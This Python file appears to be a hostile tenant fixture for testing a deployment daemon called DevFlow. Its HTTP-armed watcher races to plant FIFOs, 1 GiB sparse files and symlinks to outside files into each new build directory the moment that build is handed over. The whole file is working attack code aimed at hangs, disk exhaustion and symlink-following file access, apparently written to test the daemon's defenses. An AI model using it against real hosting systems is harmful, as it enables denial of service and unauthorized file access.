"""A tenant that attacks the daemon through its own next build: its web process watches for the build
DevFlow hands over to its uid and, the moment it is its own, plants what it was armed with.

GET /arm?plan=package.json:fifo,.static:huge&outside=/some/file arms it; GET /planted says what it
planted and in which build (also once that build is live). Kinds: fifo, huge (a 1 GiB sparse file),
outside (a link to the `outside` file), inside (a link to the committed copy in deploy/).
"""
import http.server
import os
import threading
import time
import urllib.parse
from pathlib import Path


def release_directory() -> Path:
    """Where this release really is: under a root daemon the process sees it at /app, its working directory,
    and /proc/self/mountinfo says which directory is mounted there."""
    mounts = [line.split() for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    here = next((m for m in mounts if m[4] == str(Path.cwd())), None)
    if here is None:
        return Path.cwd()
    filesystem = next(m[4] for m in mounts if m[2] == here[2] and m[3] == "/")
    return Path(filesystem) / here[3].lstrip("/")


HERE = release_directory()
BUILDS = HERE.parent
state = {"plan": None, "outside": "", "planted": ""}
lock = threading.Lock()


def handed_over(build: Path) -> bool:
    try:
        return build.stat().st_uid == os.getuid() and os.access(build, os.W_OK)
    except OSError:
        return False


def next_builds() -> list[Path]:
    """Newer builds of this app: listed when the directory is readable, else the next numbers tried."""
    try:
        names = [entry.name for entry in os.scandir(BUILDS)]
    except PermissionError:
        names = [str(int(HERE.name) + n) for n in range(1, 50)]
    return [BUILDS / name for name in names if name.isdigit() and int(name) > int(HERE.name)]


def plant(build: Path, plan: list[tuple[str, str]], outside: str) -> None:
    for name, kind in plan:
        path = build / name
        try:
            path.unlink()
        except FileNotFoundError:
            pass
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "huge":
            with open(path, "wb") as f:
                f.truncate(1 << 30)
        elif kind == "outside":
            path.symlink_to(outside)
        else:
            path.symlink_to(f"deploy/{name}")


def watch() -> None:
    while True:
        with lock:
            plan, outside = state["plan"], state["outside"]
        if plan is None:
            time.sleep(0.01)
            continue
        for build in next_builds():
            if handed_over(build):
                plant(build, plan, outside)
                record = f"{build.name}: {','.join(f'{n}:{k}' for n, k in plan)}"
                (build / ".planted").write_text(record)  # for the new release's process, if it goes live
                with lock:
                    state.update(plan=None, planted=record)
                break
        time.sleep(0.001)


class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.urlsplit(self.path)
        query = urllib.parse.parse_qs(url.query)
        if url.path == "/arm":
            plan = [tuple(item.split(":", 1)) for item in query["plan"][0].split(",")]
            with lock:
                state.update(plan=plan, outside=query.get("outside", [""])[0], planted="")
            body = "armed"
        elif url.path == "/planted":
            with lock:
                body = state["planted"]
            if not body and (HERE / ".planted").exists():
                body = (HERE / ".planted").read_text()
        else:
            body = f"planter {HERE.name}"
        data = body.encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass


if __name__ == "__main__":
    threading.Thread(target=watch, daemon=True).start()
    http.server.ThreadingHTTPServer(("0.0.0.0", int(os.environ["PORT"])), Handler).serve_forever()
